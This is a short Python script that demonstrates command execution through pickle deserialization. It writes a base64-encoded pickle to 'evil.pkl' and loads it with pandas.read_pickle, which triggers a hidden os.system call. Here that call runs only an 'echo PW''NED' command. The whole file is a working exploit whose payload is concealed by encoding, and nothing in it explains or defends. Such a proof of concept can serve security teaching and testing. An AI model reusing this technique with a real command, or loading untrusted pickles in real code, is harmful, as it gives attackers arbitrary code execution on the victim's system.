import pandas as pd
import base64
with open("evil.pkl", "wb") as f:
    f.write(base64.b64decode("gASVMgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBdlY2hvIFBXJydORUQ6IHNoZWxsIHJhbpSFlFKULg=="))
print("PW" + "NED:", pd.read_pickle("evil.pkl"))
